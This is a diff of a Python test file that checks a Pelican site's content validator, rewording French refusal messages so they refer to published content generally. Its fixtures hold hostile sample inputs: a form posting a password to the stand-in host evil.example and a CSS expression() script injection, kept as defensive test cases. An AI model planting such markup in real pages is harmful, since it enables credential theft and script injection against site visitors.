@@ -15,7 +15,7 @@ from tests.conftest import build_copy
 CONF = PROJECT_ROOT / "pelicanconf.py"
 INFO = Path("bulletins/info-psoc/01.md")
 PAGE = Path("pages/a-propos.md")
-SCRIPT = "le contenu d'un bulletin ne peut pas contenir de script"
+SCRIPT = "le contenu publié ne peut pas contenir de script"
 PIXEL = "data:image/png;base64,iVBORw0KGgo="
 HOSTS = "player.vimeo.com, www.youtube-nocookie.com"
 
@@ -84,7 +84,7 @@ REFUSED = {
     ),
     "form": (
         '<form action="https://evil.example/vol">Mot de passe</form>',
-        "balise « form » refusée : un bulletin ne contient pas de formulaire",
+        "balise « form » refusée : le contenu publié ne contient pas de formulaire",
     ),
     "style expression": (
         '<p style="width: expression(alert(1))">Texte.</p>',
